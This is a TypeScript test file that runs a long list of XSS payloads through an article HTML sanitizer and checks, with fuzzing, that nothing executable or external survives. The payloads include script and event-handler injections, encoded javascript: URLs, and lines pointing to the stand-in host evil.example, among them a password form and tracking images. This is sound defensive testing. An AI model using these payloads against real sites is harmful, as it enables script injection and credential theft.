import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isOwnPicture } from "../../../src/domain/content/article-html.ts";
import { articleHtml } from "../../../src/server/content/article-text.ts";
import { cleanHtml, textOf } from "../../../src/server/system/clean-html.ts";

/** Each would run something, load something or lead somewhere, were it left unchanged. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script\x20type='text/javascript'>alert(1)</script>",
  "<script/x>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script>alert(1)",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml;base64,AAAA#x'></use></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<math href='javascript:alert(1)'>x</math>",
  "<img src=x onerror=alert(1)>",
  "<img src='/pictures/a.svg' onerror='alert(1)'>",
  "<img src='/pictures/a.svg' onload=alert(1) style='x:expression(alert(1))'>",
  "<img src=javascript:alert(1)>",
  "<img src='jav&#x09;ascript:alert(1)'>",
  "<img src='data:text/html;base64,PHNjcmlwdD4='>",
  "<img src='https://evil.example/track.gif'>",
  "<img src='//evil.example/track.gif'>",
  "<img src='/pictures/../api/login/logout'>",
  "<img src='/\\evil.example/x.png'>",
  "<img srcset='https://evil.example/x.png 1x' src='/pictures/a.svg'>",
  "<img/src='x'/onerror=alert(1)//>",
  '<img """><script>alert(1)</script>">',
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='java&Tab;script&colon;alert(1)'>x</a>",
  "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='/\\evil.example'>x</a>",
  "<a href='\\\\evil.example'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='/ok' onclick='alert(1)'>x</a>",
  "<a href='/ok' style='position:fixed;inset:0'>x</a>",
  "<a href='/ok' ping='https://evil.example'>x</a>",
  "<a href='https://a.example' target='_blank' rel='opener'>x</a>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<applet code='x'></applet>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>p{background:url(javascript:alert(1))}</style>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<div onmouseover='alert(1)'>x</div>",
  "<p onpointerenter=alert(1)>x</p>",
  "<td background='javascript:alert(1)' onclick=alert(1)>x</td>",
  "<table background='https://evil.example/x.png'><tr><td>x</td></tr></table>",
  "<body onload=alert(1)>",
  "<form action='https://evil.example'><input name=password><button>ok</button></form>",
  "<button formaction='javascript:alert(1)'>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x</select>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<isindex action=javascript:alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><script>alert(1)</script></template>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<title><img src=x onerror=alert(1)></title>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<p id='__proto__' class='tm-panel' name='body' data-testid='x'>x</p>",
  "<h1 onclick=alert(1)>x</h1>",
  "</p></div></body><script>alert(1)</script>",
  "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
  "<img src=`javascript:alert(1)`>",
  "<a href='/ok\"onmouseover=alert(1)'>x</a>",
];

/** What a browser would make of an opening tag: its name and attributes. */
function tagsOf(html: string): { name: string; attributes: string[]; text: string }[] {
  return [...html.matchAll(/<([a-z][^\s/>]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([text, name = "", rest = ""]) => ({
      name: name.toLowerCase(),
      attributes: [...rest.matchAll(/\s([^\s=]+)(?:="[^"]*")?/g)].map(([, attribute = ""]) => attribute.toLowerCase()),
      text,
    }),
  );
}

const TAGS =
  /^(p|h[234]|br|hr|blockquote|strong|b|em|i|u|s|sub|sup|ul|ol|li|table|caption|thead|tbody|tr|th|td|figure|figcaption|img|a)$/;
const ATTRIBUTES = /^(href|target|rel|src|alt|width|height|loading|colspan|rowspan|scope)$/;

/** Nothing in it runs, loads from elsewhere or leads to a script. */
function expectHarmless(html: string): void {
  const tags = tagsOf(html);
  // Every < that is left begins one of the tags looked at, or ends one.
  expect(html.match(/</g)?.length ?? 0).toBe(tags.length + (html.match(/<\/[a-z0-9]+>/g)?.length ?? 0));
  for (const { name, attributes, text } of tags) {
    expect(name).toMatch(TAGS);
    for (const attribute of attributes) expect(attribute).toMatch(ATTRIBUTES);
    const href = /\shref="([^"]*)"/.exec(text)?.[1];
    if (href !== undefined) expect(href).toMatch(/^(\/(?![/\\])|https?:\/\/)/i);
    if (/\shref="http/i.test(text)) expect(text).toContain('rel="noopener noreferrer nofollow"');
    const src = /\ssrc="([^"]*)"/.exec(text)?.[1];
    if (src !== undefined) expect(isOwnPicture(src)).toBe(true);
    if (name === "img") expect(src).toBeDefined();
  }
}

describe("HTML of an article", () => {
  it("has been tried with at least sixty attacks", () => expect(new Set(ATTACKS).size).toBeGreaterThan(60));

  it.each(ATTACKS)("retains nothing executable of %s", (attack) => {
    for (const html of [
      attack,
      `<p>前${attack}后</p>`,
      `<ul><li>${attack}</li></ul>`,
      `<table><tr><td>${attack}</td></tr></table>`,
    ]) {
      const kept = cleanHtml(html);
      expectHarmless(kept);
      expect(cleanHtml(kept)).toBe(kept);
    }
  });

  it("retains nothing executable of any mixture of them", () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom("<p>", "</p>", "<table><tr><td>", "<a href='", "'>", '"', "<!--", "-->", "&lt;script&gt;", "<b"),
      fc.string({ maxLength: 6 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const kept = cleanHtml(pieces.join(""));
        expectHarmless(kept);
        expect(cleanHtml(kept)).toBe(kept);
      }),
      { numRuns: 200 },
    );
  });

  it("retains what an article needs", () => {
    const article =
      '<h2>规格</h2><p><strong>30*120</strong> 见<a href="/public/list?kindCode=1501">货源</a></p>' +
      '<table><thead><tr><th colspan="2">规格</th></tr></thead><tbody><tr><td>30*120</td><td>0.0144</td></tr></tbody></table>' +
      '<figure><img src="/pictures/news/wiki-1.svg" alt="材积" width="640" height="360" loading="lazy" /></figure>';
    expect(cleanHtml(article)).toBe(article);
    expect(cleanHtml("<h1>标题</h1>")).toBe("<h2>标题</h2>");
  });

  it("has its text, and a substitute where it only shows a picture", () => {
    expect(textOf("<p> <br></p>").trim()).toBe("");
    expect(textOf("<p>正文</p>").trim()).toBe("正文");
    expect(textOf('<img src="/pictures/a.svg">').trim()).not.toBe("");
  });
});

describe("an article written as lines", () => {
  it("becomes headings, lists, tables and links", () => {
    const html = articleHtml("## 一\n文 **重** [货](/public/list)\n- 甲\n- 乙\n\n1. 先\n| 名 | 数 |\n| 甲 | 1 |\n> 注");
    expect(html).toBe(
      '<h2>一</h2><p>文 <strong>重</strong> <a href="/public/list">货</a></p><ul><li>甲</li><li>乙</li></ul>' +
        "<ol><li>先</li></ol><table><thead><tr><th>名</th><th>数</th></tr></thead><tbody><tr><td>甲</td><td>1</td></tr></tbody></table>" +
        "<blockquote><p>注</p></blockquote>",
    );
    expect(cleanHtml(html)).toBe(html);
  });

  it("never brings an element of its own", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom("<script>", "<b>", "- <i>", "| <a> |", "## <h1>", "&lt;")), (lines) => {
        expect(articleHtml(lines.join("\n"))).not.toMatch(/<(script|b|i|a|h1)>/);
      }),
    );
  });
});
